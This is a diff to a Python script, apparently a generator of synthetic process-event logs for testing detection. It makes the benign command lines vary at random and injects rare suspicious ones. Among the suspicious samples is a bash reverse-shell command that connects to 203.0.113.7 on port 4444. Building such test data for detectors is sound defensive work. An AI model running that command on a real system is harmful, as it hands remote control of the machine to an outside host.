@@ -15,13 +15,23 @@ import sys
 from datetime import datetime, timedelta, timezone
 
 SEED = 20261123
+# Ordinary commands, each with arguments that vary as they do on real servers (sites, files, dates, ids), so
+# command lines rarely repeat while programs, parents, users and directories do.
+WORDS = ["error", "timeout", "denied", "upstream", "checkout", "invoice", "session", "retry", "healthz", "payment"]
+SITES = ["shop", "api", "admin", "static", "blog", "status", "auth", "files"]
 BENIGN = [
-    ("/usr/bin/ls", "ls -la /var/www"), ("/usr/bin/grep", "grep -r error /var/log/nginx"),
-    ("/usr/bin/python3", "python3 /opt/app/manage.py migrate"), ("/usr/bin/systemctl", "systemctl status nginx"),
-    ("/usr/bin/tar", "tar czf /backup/etc.tgz /etc"),
-    ("/usr/sbin/nginx", "nginx -s reload"), ("/usr/bin/ps", "ps aux"), ("/usr/bin/cat", "cat /etc/os-release"),
-    ("/usr/bin/git", "git -C /srv/app pull --ff-only"), ("/usr/bin/rsync", "rsync -a /srv/app/ /backup/app/"),
-    ("/usr/bin/awk", "awk '{print $1}' access.log"), ("/usr/bin/sort", "sort -u /srv/app/ids.txt"),
+    ("/usr/bin/ls", lambda r: f"ls -la /var/www/{r.choice(SITES)}/releases/{r.randrange(1, 400)}"),
+    ("/usr/bin/grep", lambda r: f"grep -r {r.choice(WORDS)} /var/log/nginx/{r.choice(SITES)}.access.log.{r.randrange(1, 14)}"),
+    ("/usr/bin/python3", lambda r: f"python3 /opt/app/manage.py {r.choice(['migrate', 'collectstatic', 'clearsessions', 'check'])} --verbosity {r.randrange(0, 3)}"),
+    ("/usr/bin/systemctl", lambda r: f"systemctl status {r.choice(['nginx', 'postgresql', 'app-worker@' + str(r.randrange(1, 32)), 'redis'])}"),
+    ("/usr/bin/tar", lambda r: f"tar czf /backup/etc-2026{r.randrange(1, 13):02d}{r.randrange(1, 29):02d}-{r.randrange(0, 24):02d}.tgz /etc"),
+    ("/usr/sbin/nginx", lambda r: "nginx -s reload"),
+    ("/usr/bin/ps", lambda r: f"ps -o pid,rss,cmd -p {r.randrange(300, 65000)}"),
+    ("/usr/bin/cat", lambda r: f"cat /srv/app/{r.choice(SITES)}/config/{r.choice(WORDS)}.yml"),
+    ("/usr/bin/git", lambda r: f"git -C /srv/app/{r.choice(SITES)} pull --ff-only origin release-{r.randrange(100, 999)}"),
+    ("/usr/bin/rsync", lambda r: f"rsync -a /srv/app/{r.choice(SITES)}/ /backup/app/{r.choice(SITES)}-{r.randrange(1, 60)}/"),
+    ("/usr/bin/awk", lambda r: f"awk '{{print ${r.randrange(1, 9)}}}' /var/log/nginx/{r.choice(SITES)}.access.log"),
+    ("/usr/bin/sort", lambda r: f"sort -u /srv/app/ids-{r.randrange(1, 5000)}.txt"),
 ]
 SUSPICIOUS = [
     ("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
@@ -43,7 +53,11 @@ def process_events(out, count, rng):
     start = datetime(2026, 11, 22, tzinfo=timezone.utc)
     with open(out, "w") as f:
         for i in range(count):
-            image, command = rng.choice(SUSPICIOUS) if rng.random() < 0.001 else rng.choice(BENIGN)
+            if rng.random() < 0.001:
+                image, command = rng.choice(SUSPICIOUS)
+            else:
+                image, make = rng.choice(BENIGN)
+                command = make(rng)
             parent = rng.choice(PARENTS)
             event = {
                 "UtcTime": (start + timedelta(milliseconds=i * 3)).isoformat(timespec="milliseconds").replace("+00:00", "Z"),
@@ -56,7 +70,7 @@ def process_events(out, count, rng):
                 "LogonId": rng.randrange(0, 5000),
                 "ParentProcessId": 900 + i % 50000,
                 "ParentImage": parent,
-                "ParentCommandLine": parent.rsplit("/", 1)[1],
+                "ParentCommandLine": parent.rsplit("/", 1)[1] + ("" if rng.random() < 0.5 else f" --pid {rng.randrange(2, 40000)}"),
             }
             f.write(json.dumps(event, separators=(",", ":")) + "\n")
 
